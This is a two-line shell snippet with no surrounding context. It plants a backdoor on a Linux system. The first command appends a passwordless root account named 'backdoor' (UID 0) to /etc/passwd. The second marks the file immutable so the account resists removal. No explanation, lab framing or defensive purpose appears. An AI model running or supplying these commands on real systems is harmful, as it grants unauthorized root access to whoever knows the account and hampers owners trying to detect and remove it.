echo "backdoor:x:0:0::/root:/bin/bash" >> /etc/passwd
chattr +i /etc/passwd
